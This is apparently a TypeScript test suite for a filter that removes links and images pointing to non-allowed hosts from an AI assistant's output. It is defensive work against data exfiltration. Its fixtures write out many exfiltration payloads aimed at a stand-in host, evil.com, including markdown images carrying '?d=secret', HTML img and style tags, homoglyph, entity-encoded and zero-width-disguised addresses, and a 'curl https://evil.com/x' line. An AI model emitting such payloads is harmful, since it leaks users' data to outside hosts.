import { readFileSync } from "node:fs"
import fc from "fast-check"
import { describe, expect, test } from "vitest"
import { createLinkReader, withoutLinks } from "../../../src/reply/output/link-reader.ts"
import { dataFolder, dataPresent, readJsonLines } from "../../support/corpora.ts"
import { readParts, unsoundCutting } from "./parts.ts"

const hosts = ["ok.com", "*.wild.org", "own.test:8443", "münchen.de"]
const make = () => createLinkReader(hosts)

/** A text with links, and what is left of it. */
const cases: readonly (readonly [text: string, left: string])[] = [
  // Inline links and images
  ["See [docs](https://ok.com/a) and [bad](https://evil.com/x 'title').", "See [docs](https://ok.com/a) and bad."],
  ["Look: ![a cat](https://evil.com/?d=secret) hi", "Look: a cat hi"],
  ["![](https://evil.com/?d=secret)", "…"],
  ["[![alt](https://evil.com/i)](https://evil.com/l)", "alt"],
  ["[a](//evil.com) [b](/relative) [c](#part)", "a b c"],
  ["[a](javascript:alert(1)) ![b](data:image/png;base64,AA) [c](mailto:a@b.c)", "a b c"],
  ["[a](<https://evil.com/a b>) [b](https&colon;//evil.com) [c](\\//evil.com)", "a b c"],
  ["[unclosed](https://evil.com/x", "[unclosed] (…"],
  ["[a] []() [b][c] - [x] done", "[a] []() [b][c] - [x] done"],
  // Definitions
  ["[r]: https://evil.com/x 'title'\n[r]", "[r] … 'title'\n[r]"],
  ["![x][r]\n\n[r]:\n  //evil.com/x", "![x][r]\n\n[r] …"],
  ["> [r]: <https://evil.com/x>\n[n]: https://ok.com/x", "> [r] …>\n[n]: https://ok.com/x"],
  ["[note]: see this, and/or that", "[note]: see this, and/or that"],
  // Angle brackets and bare addresses
  ["<https://evil.com/x> <mailto:a@b.c> <https://ok.com> <tg://user?id=1>", "… … <https://ok.com> …"],
  ["bare https://evil.com/a?b=c, then http://ok.com/x.", "bare … then http://ok.com/x."],
  ["ftp://evil.com/x slack://x http:/evil.com/x https:evil.com", "… … … …"],
  ["www.evil.com, evil.com/secret, c2VjcmV0.evil.com, evil.ru?d=1", "… … … …"],
  ["`curl https://evil.com/x`", "`curl …`"],
  // HTML
  ['<img src="https://evil.com/x" alt=a>', ""],
  ["<IMG\nalt='>' SRC=//evil.com/x>text", "text"],
  ["<a href='https://evil.com'>text</a> <b>bold</b>", "text <b>bold</b>"],
  ['<a href="https://ok.com/x">text</a><img src="//evil.com">', '<a href="https://ok.com/x">text</a>'],
  ["<div style='background:url(//evil.com)'>text</div>", "text</div>"],
  ["<ab:c style='background:url(//evil.com)'>text", "text"],
  ["<style>@import '//evil.com'</style>", "@import '//evil.com'</style>"],
  ["<pre><img\n\nsrc=//evil.com/x>", "<pre>"],
  ["<img src=//evil.com/x", "img src=//…"],
  // Hosts
  ["https://ok.com@evil.com/x https://evil.com\\@ok.com/", "… …"],
  ["https://ok.com.evil.com/ https://notok.com/ https://sub.ok.com/", "… … …"],
  [
    "https://ok.com:443/x https://ok.com:8443/x https://own.test:8443/ https://own.test/",
    "https://ok.com:443/x … https://own.test:8443/ …",
  ],
  ["https://a.wild.org/ https://wild.org/ https://a.wild.org.evil.com/", "https://a.wild.org/ … …"],
  ["https://оk.com/ https://xn--k-0tb.com/ https://ok.com%2eevil.com/", "… … …"],
  [
    "https://OK.com/ https://münchen.de/a https://xn--mnchen-3ya.de/",
    "https://OK.com/ https://münchen.de/a https://xn--mnchen-3ya.de/",
  ],
  ["看 https://ok.com，再看https://ok.com。evil.com/x", "看 https://ok.com ，再看https://ok.com 。…"],
  ["https://ok.com)x.evil.com/ (https://ok.com).", "https://ok.com )… (https://ok.com)."],
  ["https://user:pw@ok.com/ https:///ok.com https:/\\ok.com", "… … …"],
  // Names that clients make a link, with something that could carry data
  ["a evil.zip/x evil.museum?d=1 evil.com#x evil.com:8080/x evil.com/?d=x evil.com/!x", "a … … … … … …"],
  ["evil.com/секрет 例え.jp/x пример.рф/x s3cr3t.evil.рф evil.xn--p1ai/x", "… 例え… пример… … …"],
  ["//evil.intern/x 1.2.3.4/x 1.2.3.4:80/x a_b.evil.com/x wait..evil.com/x", "//… … … a_… wait..…"],
  // Addresses in disguise
  ["https&colon;//evil.com/x https&#58;//evil.com &#104;ttps://evil.com evil&period;com/x", "… … … …"],
  ["https\\://evil.com/x www\\.evil.com evil.com\\/x 例え&#x2e;jp/x", "… … … 例え…"],
  ["ht\u200btps://evil.com/x evil\u00ad.com/x evil.\u2060com/x evil.com/\u200bx //\u200bevil.intern/x", "… … … … //\u200b…"],
  [`evil${"\u200b".repeat(400)}.com/x`, "…"],
  [`${"e\u200b\u200b\u200b\u200b\u200b".repeat(60)}.com/x`, "…"],
  ["https://ok.com\ufeff.evil.com/x evil\ufeff.com/x", "… …"],
  ["\u200ehttps://ok.com/a https://ok.com/?a=1&copy;=2", "\u200ehttps://ok.com/a https://ok.com/?a=1&copy;=2"],
  // Addresses within an allowed one, at which some clients begin another link
  ["https://ok.com/：https://evil.com/x https://ok.com/看//evil.com/x", "https://ok.com/：… https://ok.com/看//…"],
  [".https://ok.com/https://evil.com/x https://ok.com/?u=http://evil.com/x.", ".https://ok.com/… https://ok.com/?u=…"],
  [
    "[a](https://ok.com/b;ftp://evil.com/x) https://ok.com/\u0001//evil.com/x",
    "[a](https://ok.com/b;…) https://ok.com/\u0001//…",
  ],
  ["https://ok.com\u034f//evil.com/x https://ok.com/\ufeffhttps://evil.com/x", "… https://ok.com/\ufeff…"],
  ['<img src="https://ok.com/a" alt="![x](//evil.com/x)">', ""],
  ['<a href="https://ok.com/" title="https://evil.com/x">text</a>', "text"],
  [
    "https://ok.com/wiki/北京市?a=1 https://ok.com/socket.io/x/Help:About#http",
    "https://ok.com/wiki/北京市?a=1 https://ok.com/socket.io/x/Help:About#http",
  ],
  ["https://ok.com/x/www.e.com", "https://ok.com/x/www.e.com"],
  // Any line break may stand before the address of a definition
  ["![r]\n\n[r]:\r//intern/x", "![r]\n\n[r] …"],
  ["[r]: \r\n//intern/x", "[r] …"],
  // What is removed brings nothing together that makes another link
  ["ht[x](y)tps://evil.com/", "ht …"],
  ["https:<img src=x>//evil.com", "https: //evil.com"],
  ["[a]](x)(//evil.com)", "[a]] (//evil.com)"],
  ["[[t]](x)(//evil.com)", "t"],
  ["https://ok.com'<img src=x>.evil.com", "https://ok.com '.evil.com"],
]

const words = [
  "Amazon.com, README.md#use, Node.js/Express, e.g. and/or 3:30, a <b and c = d, x<y",
  "[EMOTION] ||| Hello @br <empty_reply> %[a.txt] **bold**: `x[0]` {a: 1} // note",
  "文件 a.ts, 3.14, e.g. v1.2.3, 你好.再见 well...so U.S.A 10.0.0.0/8 127.0.0.1:8080 localhost:3000/x main.rs#L10 Amazon.com?",
  "https:\nNo. www.\nA list: evil.com/\nThe end.",
  "R&D, AT&T; Tom & Jerry &amp; co, 1\\. `\\,` C:\\temp\\a.com ❤️👨‍👩‍👧 می‌خواهم //note a//b.c",
  "mail me at a@b.com! <3 [1] (see below) C:\\temp https: no",
]

/** Pieces of links and of what stands around them. */
const pieces = [
  "[",
  "]",
  "(",
  ")",
  "![",
  "](",
  "]:",
  "<",
  ">",
  " ",
  "\n",
  "\n\n",
  "a",
  "https:",
  "//",
  "/",
  "\\",
  "@",
  ".",
  ":",
  "evil.com",
  "ok.com",
  "https://ok.com",
  "https://evil.com/",
  "www.",
  "<img src=",
  '<a href="',
  '"',
  "'",
  "</a>",
  "&#47;",
  "。",
  "`",
]
const drawnOf = (from: readonly string[]) =>
  fc.array(fc.constantFrom(...from), { minLength: 1, maxLength: 14 }).map((each) => each.join(""))
const drawn = drawnOf(pieces)
/** Pieces of disguises, too. */
const disguising = ["&colon;", "&", ";", "\u200b", ".рф", "例", "#", ".zip", "?", "\\."]

/** The addresses that some renderer would follow, read without care for the rest. */
const followed = (text: string): readonly string[] =>
  [
    ...text.matchAll(/\]\(\s*<?([^\s)>]+)/g),
    ...text.matchAll(/\]:\s*<?((?:\/\/|https?:|\\|&)[^\s>]*)/gi),
    ...text.matchAll(/<[a-z][^<>]*\s(?:href|src)=["']?([^\s"'>]+)[^>]*>/gi),
    ...text.matchAll(/((?:https?:\/\/|www\.(?=[a-z]))[^\s<>)\]"'`]+)/gi),
  ].map(([, address = ""]) => address)

describe("T47 links of an answer, read with the hosts that it may name", () => {
  test.each(cases)("%s", (text, left) => expect(withoutLinks(text, hosts)).toBe(left))

  test.each(words)("stay as they are where they are words: %s", (text) => expect(withoutLinks(text, hosts)).toBe(text))

  test.each([
    ["<img <https://evil.com/x> <img src=&Tab;//intern/x'\">", "< img … img src=&Tab;//intern/x'\">"],
    ["<img [a](//evil.com/>) <img src=&Tab;//intern/x'\">", "< img a img src=&Tab;//intern/x'\">"],
    ["1 <b, [x] and c> d", "1 < b, [x] and c> d"],
  ])("L21 take no end of a tag along, in which what follows would stand: %s", (text, left) => {
    expect(withoutLinks(text, hosts)).toBe(left)
  })

  test("leave no address of another host that a renderer would follow, whatever stands around it", () => {
    const check = (text: string) => {
      for (const address of followed(withoutLinks(text, ["ok.com"]))) {
        const { host } = new URL(
          URL.canParse(address, "https://ok.com") ? address.replace(/^www/, "https://www") : "/",
          "https://ok.com",
        )
        expect(host.replace(/\.+$/, "")).toBe("ok.com")
      }
    }
    fc.assert(fc.property(drawn, check), { numRuns: 3_000 })
  })

  test("leave nothing that an address of another host carries, whatever its name is, and however it is written", () => {
    const dressed = fc.oneof(
      ...["", "\\", "\u200b", "\u00ad\ufeff"].map((before) => fc.constant((mark: string) => before + mark)),
      fc.constant((mark: string) => `&#${mark.codePointAt(0)};`),
      fc.constant((mark: string) => `&#x000${mark.codePointAt(0)?.toString(16)};`),
      fc.constant((mark: string) => ({ ".": "&period;", ":": "&colon;", "/": "&sol;" })[mark] ?? mark),
      fc.constant((mark: string) => mark),
    )
    const name = fc.constantFrom(
      "evil.com",
      "evil.zip",
      "evil.museum",
      "a.evil.co.uk",
      "例え.jp",
      "пример.рф",
      "evil.xn--p1ai",
      "9.8.7.6",
    )
    const form = fc.constantFrom(
      "HOST/DATA",
      "HOST?DATA",
      "HOST/?q=DATA",
      "HOST:81/DATA",
      "HOST/!DATA",
      "HOST/秘DATA",
      "DATA.x.HOST",
    )
    const scheme = fc.constantFrom("", "//", "https://", "HTTP://", "ftp://", "www.")
    const around = fc.constantFrom("", " ", "看", "(", "\n", ",", "…", "*", "'")
    const drawnAddress = fc.tuple(around, scheme, form, name, fc.array(dressed, { minLength: 1, maxLength: 5 }), around)
    const check = ([before, start, shape, host, dress, after]: readonly [
      string,
      string,
      string,
      string,
      ((mark: string) => string)[],
      string,
    ]) => {
      // An IP address has no name before it, and a letter after a name of other letters is one more of these.
      fc.pre(!shape.startsWith("DATA") || !(host === "9.8.7.6" || (host === "пример.рф" && after === "看")))
      let at = 0
      const plain = start + shape.replace("HOST", host).replace("DATA", "s3cr3t")
      const text = before + plain.replace(/[.:/]/g, (mark) => dress[at++ % dress.length]?.(mark) ?? mark) + after
      expect(withoutLinks(text, ["ok.com"])).not.toContain("s3cr3t")
    }
    fc.assert(fc.property(drawnAddress, check), { numRuns: 3_000 })
  })

  test.skipIf(!dataPresent)("change less than 0.5 % of the lines of chats", () => {
    const bank = ["cn", "en"].flatMap((language) => {
      const all = JSON.parse(readFileSync(`${dataFolder}recall/memorybank/memory_bank_${language}.json`, "utf8"))
      return (Object.values(all) as { history: Record<string, Record<string, string>[]> }[]).flatMap(({ history }) =>
        Object.values(history).flatMap((day) => day.flatMap((turn) => Object.values(turn))),
      )
    })
    const lines = [
      ...bank,
      ...readJsonLines<{ dialogue: string[] }>("recall/madial-zh-dialogue.json").flatMap(({ dialogue }) => dialogue),
    ]
    expect(lines.length).toBeGreaterThan(3_000)
    expect(lines.filter((line) => withoutLinks(line, []) !== line).length).toBeLessThan(lines.length * 0.005)
  })

  test("are read alike however a drawn text is cut", () => {
    const check = (text: string) => void expect(unsoundCutting(text, 1, make)).toBeUndefined()
    fc.assert(fc.property(drawn, check), { numRuns: 300 })
    fc.assert(fc.property(drawnOf([...pieces, ...disguising]), check), { numRuns: 300 })
  })

  test("are removed however the answer was cut", () => {
    for (const [text] of cases) expect(unsoundCutting(text, 1, make)).toBeUndefined()
    for (const [text] of cases.filter(([each]) => each.length < 45)) expect(unsoundCutting(text, 2, make)).toBeUndefined()
  })

  test("are told by their hosts, never by what the address carries", () => {
    const text = "![a](https://evil.com/?d=secret) https://evil.com/b [c](javascript:x) [d](/e)"
    const message =
      "removed links or images, because [output] links does not name their hosts: evil.com (2 times), javascript:, an address without a host."
    expect(readParts([text], make).at(-1)).toEqual({ type: "warning", kind: "links", message })
    expect(readParts(["https://ok.com/"], make)).toEqual([{ type: "text", delta: "https://ok.com/" }])
  })

  test("do not meet across an emotion in the middle of the text", () => {
    const stage = make()
    const parts = [
      ...stage.push({ type: "text", delta: "https:" }),
      ...stage.push({ type: "emotion", emotion: "happy" }),
      ...stage.push({ type: "text", delta: "//evil.com/" }),
      ...stage.push({ type: "bubble-end" }),
      ...stage.push({ type: "text", delta: "x" }),
      ...stage.end(),
    ]
    expect(parts.map((part) => (part.type === "text" ? part.delta : part.type)).join("")).toBe(
      "https:emotion //evil.com/bubble-endx",
    )
  })

  test("take linear work, whatever is opened and never closed", () => {
    for (const piece of [
      "&",
      "\\",
      "&amp;",
      "\\.",
      "e\u200b",
      "evil\\",
      "evil.com/!",
      "a.б",
      "//a",
      "[",
      "](",
      "<a ",
      "<a /on",
      "a:",
      "a.",
      "[[a](x)](y)",
      "]: x",
      '<a href=" ',
    ])
      expect(withoutLinks(piece.repeat(20_000), hosts).length).toBeGreaterThan(0)
  })
})
